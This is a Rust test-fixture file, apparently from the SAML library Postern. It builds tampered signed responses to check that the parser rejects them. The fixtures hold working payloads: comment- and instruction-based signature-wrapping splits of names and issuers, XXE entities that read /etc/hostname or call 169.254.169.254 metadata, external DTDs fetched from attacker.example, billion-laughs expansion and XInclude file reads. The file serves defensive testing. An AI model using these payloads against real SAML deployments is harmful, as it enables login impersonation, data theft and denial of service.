//! Text that two readers see differently: split by comments, instructions and entities.

use postern_core::fault::Code::{self, SamlCommentOrInstruction, SamlDigestMismatch, SamlDoctype, SamlNotWellFormed};

use super::forge::changed;
use super::{Attack, Class, Scene, xml};

pub(super) const CLASS: Class = Class {
    name: "Comments, instructions and entities",
    idea: "Canonicalisation drops comments, so one can be put into a signed text afterwards, and a reader that takes the \
           text up to it reads another name. Entities read files, call addresses or eat memory. Postern takes no comment, \
           no processing instruction and no DOCTYPE anywhere, before a parser sees them.",
    attacks: ATTACKS,
};

const COMMENT: &[Code] = &[SamlCommentOrInstruction];
const DOCTYPE: &[Code] = &[SamlDoctype];
const BROKEN: &[Code] = &[SamlNotWellFormed];
const DUO: &str = "CVE-2018-0489, CVE-2017-11427 and others (2018)";
const XXE: &str = "CVE-2024-52596, CVE-2025-23369";

const ATTACKS: &[Attack] = &[
    xml("a_comment_splits_the_name", DUO, COMMENT, |scene| split(scene, "<!---->")),
    xml("an_instruction_splits_the_name", DUO, COMMENT, |scene| split(scene, "<?x?>")),
    xml("a_comment_splits_the_email", DUO, COMMENT, |scene| {
        let signed =
            scene.says(|response| response.attributes[0].1 = vec!["admin@example.com.attacker.example".into()]);
        changed(&signed, "example.com.attacker", "example.com<!---->.attacker")
    }),
    xml("a_comment_splits_the_issuer", DUO, COMMENT, |scene| {
        scene.tampered("</saml:Issuer><ds:Signature", "<!---->.example</saml:Issuer><ds:Signature")
    }),
    xml("a_comment_splits_the_audience", DUO, COMMENT, |scene| {
        let longer = format!("{}.attacker.example", scene.sp);
        let signed = scene.says(|response| response.audiences = vec![longer]);
        changed(&signed, ".attacker.example", "<!---->.attacker.example")
    }),
    xml("a_comment_splits_the_digest", "CVE-2025-29775", COMMENT, |scene| {
        scene.tampered("<ds:DigestValue>", "<ds:DigestValue><!--forged digest-->")
    }),
    xml("an_instruction_splits_the_digest", "CVE-2025-29775", COMMENT, |scene| {
        scene.tampered("<ds:DigestValue>", "<ds:DigestValue><?forged digest?>")
    }),
    xml("a_comment_splits_the_signature_value", "CVE-2025-29775", COMMENT, |scene| {
        scene.tampered("<ds:SignatureValue>", "<ds:SignatureValue><!-- -->")
    }),
    xml("a_comment_stands_before_the_response", "", COMMENT, |scene| format!("<!-- -->{}", scene.genuine())),
    xml("a_comment_stands_behind_the_response", "", COMMENT, |scene| format!("{}<!-- -->", scene.genuine())),
    xml("a_comment_stands_between_elements", "", COMMENT, |scene| {
        scene.tampered("<saml:Subject>", "<!-- --><saml:Subject>")
    }),
    xml("a_comment_is_not_closed", "", COMMENT, |scene| scene.tampered("<saml:Subject>", "<!-- <saml:Subject>")),
    xml("an_instruction_names_a_style_sheet", "", COMMENT, |scene| {
        format!(r#"<?xml version="1.0"?><?xml-stylesheet href="http://169.254.169.254/"?>{}"#, scene.genuine())
    }),
    xml("an_instruction_stands_behind_the_response", "", COMMENT, |scene| format!("{}<?x?>", scene.genuine())),
    xml("a_second_declaration_stands_inside", "", COMMENT, |scene| {
        scene.tampered("<samlp:Status>", r#"<?xml version="1.0"?><samlp:Status>"#)
    }),
    xml("a_doctype_is_empty", XXE, DOCTYPE, |scene| with_doctype(scene, "<!DOCTYPE Response>")),
    xml("a_doctype_is_written_in_small_letters", "", DOCTYPE, |scene| with_doctype(scene, "<!doctype Response>")),
    xml("an_entity_holds_the_name", XXE, DOCTYPE, |scene| {
        let response = scene.tampered(">u-1001<", ">&who;<");
        format!(r#"<!DOCTYPE r [<!ENTITY who "u-0001">]>{response}"#)
    }),
    xml("an_entity_reads_a_file", XXE, DOCTYPE, |scene| {
        let response = scene.tampered(">u-1001<", ">&file;<");
        format!(r#"<!DOCTYPE r [<!ENTITY file SYSTEM "file:///etc/hostname">]>{response}"#)
    }),
    xml("an_entity_calls_an_address", XXE, DOCTYPE, |scene| {
        let response = scene.tampered(">u-1001<", ">&call;<");
        format!(r#"<!DOCTYPE r [<!ENTITY call SYSTEM "http://169.254.169.254/latest/meta-data">]>{response}"#)
    }),
    xml("a_parameter_entity_loads_another_dtd", XXE, DOCTYPE, |scene| {
        with_doctype(scene, r#"<!DOCTYPE r [<!ENTITY % dtd SYSTEM "https://attacker.example/x.dtd">%dtd;]>"#)
    }),
    xml("an_external_dtd_is_named", XXE, DOCTYPE, |scene| {
        with_doctype(scene, r#"<!DOCTYPE r SYSTEM "https://attacker.example/x.dtd">"#)
    }),
    xml("entities_laugh_a_billion_times", "CVE-2003-1564", DOCTYPE, |scene| {
        let lol = |level: usize| format!(r#"<!ENTITY l{level} "{}">"#, format!("&l{};", level - 1).repeat(10));
        let entities: String = (1..10).map(lol).collect();
        let response = scene.tampered(">u-1001<", ">&l9;<");
        format!(r#"<!DOCTYPE r [<!ENTITY l0 "lol">{entities}]>{response}"#)
    }),
    xml("one_long_entity_is_repeated", "", DOCTYPE, |scene| {
        let response = scene.tampered(">u-1001<", &format!(">{}<", "&long;".repeat(1000)));
        format!(r#"<!DOCTYPE r [<!ENTITY long "{}">]>{response}"#, "x".repeat(10_000))
    }),
    xml("an_attribute_list_gives_an_element_an_id", "", DOCTYPE, |scene| {
        with_doctype(scene, "<!DOCTYPE r [<!ATTLIST samlp:Status Version ID #IMPLIED>]>")
    }),
    xml("an_attribute_list_gives_a_default_value", "", DOCTYPE, |scene| {
        with_doctype(scene, r#"<!DOCTYPE r [<!ATTLIST saml:Audience Extra CDATA "x">]>"#)
    }),
    xml("a_doctype_stands_behind_the_first_element", "", DOCTYPE, |scene| {
        scene.tampered("<samlp:Status>", "<!DOCTYPE x><samlp:Status>")
    }),
    xml("an_entity_is_declared_without_a_doctype", "", DOCTYPE, |scene| {
        scene.tampered("<samlp:Status>", r#"<!ENTITY who "u-0001"><samlp:Status>"#)
    }),
    xml("an_entity_is_unknown", "", BROKEN, |scene| scene.tampered(">u-1001<", ">&who;<")),
    xml("an_entity_is_one_of_html", "", BROKEN, |scene| scene.tampered(">u-1001<", ">u-1001&nbsp;<")),
    xml("a_character_reference_has_no_end", "", BROKEN, |scene| scene.tampered(">u-1001<", ">u-1001&#32<")),
    xml("character_data_has_no_end", "", BROKEN, |scene| scene.tampered(">u-1001<", "><![CDATA[u-1001<")),
    xml("character_data_brings_markup_into_the_name", "", &[SamlDigestMismatch], |scene| {
        scene.tampered(">u-1001<", "><![CDATA[u-0001</saml:NameID>]]>u-1001<")
    }),
    xml("an_inclusion_reads_a_file", "", &[SamlDigestMismatch], |scene| {
        let include =
            r#"><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file:///etc/hostname"/><"#;
        scene.tampered(">u-1001<", include)
    }),
];

/// Somebody whose name begins with an administrator's, and ends there for those who read up to the split.
fn split(scene: &Scene<'_>, what: &str) -> String {
    let signed = scene.says(|response| response.name_id = Some("u-0001.attacker".into()));
    changed(&signed, "u-0001.attacker", &format!("u-0001{what}.attacker"))
}

fn with_doctype(scene: &Scene<'_>, doctype: &str) -> String {
    doctype.to_owned() + &scene.genuine()
}
